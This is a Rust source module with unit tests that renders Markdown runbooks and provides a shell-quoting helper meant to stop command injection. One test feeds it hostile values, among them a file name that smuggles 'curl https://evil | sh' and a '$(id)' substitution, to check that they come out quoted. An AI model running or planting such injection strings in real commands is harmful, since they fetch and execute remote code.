//! A small Markdown writer: headings, paragraphs, lists, tables and shell blocks, each separated
//! by one blank line.

#[derive(Debug, Default)]
pub(super) struct Markdown {
    out: String,
}

impl Markdown {
    fn block(&mut self, text: &str) {
        if !self.out.is_empty() {
            self.out.push('\n');
        }
        self.out.push_str(text.trim_end());
        self.out.push('\n');
    }

    pub fn heading(&mut self, level: usize, text: &str) {
        self.block(&format!("{} {text}", "#".repeat(level)));
    }

    pub fn para(&mut self, text: impl AsRef<str>) {
        self.block(text.as_ref());
    }

    /// A quoted warning or note.
    pub fn note(&mut self, text: impl AsRef<str>) {
        let quoted: Vec<String> = text
            .as_ref()
            .lines()
            .map(|l| format!("> {l}").trim_end().to_owned())
            .collect();
        self.block(&quoted.join("\n"));
    }

    pub fn bullets<I, S>(&mut self, items: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let lines: Vec<String> = items
            .into_iter()
            .map(|i| format!("- {}", i.as_ref()))
            .collect();
        if !lines.is_empty() {
            self.block(&lines.join("\n"));
        }
    }

    /// A `sh` code block; empty lines are dropped.
    pub fn shell<I, S>(&mut self, lines: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let body: Vec<String> = lines
            .into_iter()
            .map(|l| l.as_ref().to_owned())
            .filter(|l| !l.is_empty())
            .collect();
        if !body.is_empty() {
            self.block(&format!("```sh\n{}\n```", body.join("\n")));
        }
    }

    pub fn table(&mut self, header: &[&str], rows: &[Vec<String>]) {
        if rows.is_empty() {
            return;
        }
        let mut text = format!("| {} |\n", header.join(" | "));
        text.push_str(&format!("|{}\n", "---|".repeat(header.len())));
        for row in rows {
            let cells: Vec<String> = row.iter().map(|c| cell(c)).collect();
            text.push_str(&format!("| {} |\n", cells.join(" | ")));
        }
        self.block(&text);
    }

    pub fn finish(self) -> String {
        self.out
    }
}

/// Inline code.
pub(super) fn code(text: &str) -> String {
    if text.contains('`') {
        format!("`` {text} ``")
    } else {
        format!("`{text}`")
    }
}

/// A table cell: pipes escaped, line breaks flattened.
fn cell(text: &str) -> String {
    text.replace('|', "\\|").replace('\n', " ")
}

/// `1 pod`, `3 pods`.
pub(super) fn plural(n: impl Into<i64>, word: &str) -> String {
    let n = n.into();
    if n == 1 {
        format!("1 {word}")
    } else {
        format!("{n} {word}s")
    }
}

/// `a / b` rounded up, for non-negative `a` and positive `b`.
pub(super) fn ceil_div(a: i64, b: i64) -> i64 {
    a.saturating_add(b - 1) / b
}

/// A word as `sh` must see it: left alone when every character is plain, else single-quoted.
/// Every value a runbook reads from an annotation, a label, an argument or a path goes through it
/// before it lands in a command.
pub fn sh_quote(word: &str) -> String {
    let plain = !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c));
    if plain {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

/// A relative link target with everything but unreserved characters percent-encoded.
pub(super) fn link_target(path: &str) -> String {
    path.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// A duration in seconds as `90 s`, `10 min`, `1 h 5 min`.
pub(super) fn duration(seconds: i64) -> String {
    if seconds < 120 {
        format!("{seconds} s")
    } else if seconds < 3600 {
        format!("{} min", ceil_div(seconds, 60))
    } else {
        let minutes = ceil_div(seconds, 60);
        match minutes % 60 {
            0 => format!("{} h", minutes / 60),
            m => format!("{} h {m} min", minutes / 60),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn blocks_are_separated_by_one_blank_line() {
        let mut doc = Markdown::default();
        doc.heading(1, "Title");
        doc.para("Text.");
        doc.shell(["echo hi", ""]);
        doc.table(&["a", "b"], &[vec!["x|y".into(), "z".into()]]);
        assert_eq!(
            doc.finish(),
            "# Title\n\nText.\n\n```sh\necho hi\n```\n\n| a | b |\n|---|---|\n| x\\|y | z |\n"
        );
    }

    #[test]
    fn hostile_words_are_single_quoted_and_plain_ones_left_alone() {
        assert_eq!(sh_quote("golden/chat.yaml"), "golden/chat.yaml");
        assert_eq!(
            sh_quote("x.yaml; curl https://evil | sh"),
            "'x.yaml; curl https://evil | sh'"
        );
        assert_eq!(sh_quote("rel$(id)"), "'rel$(id)'");
        assert_eq!(sh_quote("it's"), r"'it'\''s'");
        assert_eq!(sh_quote(""), "''");
        assert_eq!(link_target("ml--chat.md"), "ml--chat.md");
        assert_eq!(link_target("a b/(c).md"), "a%20b%2F%28c%29.md");
    }

    #[test]
    fn ceil_div_saturates() {
        assert_eq!(ceil_div(i64::MAX, 60), i64::MAX / 60);
        assert_eq!(ceil_div(61, 60), 2);
    }

    #[test]
    fn durations_read_naturally() {
        assert_eq!(duration(45), "45 s");
        assert_eq!(duration(600), "10 min");
        assert_eq!(duration(3900), "1 h 5 min");
    }
}
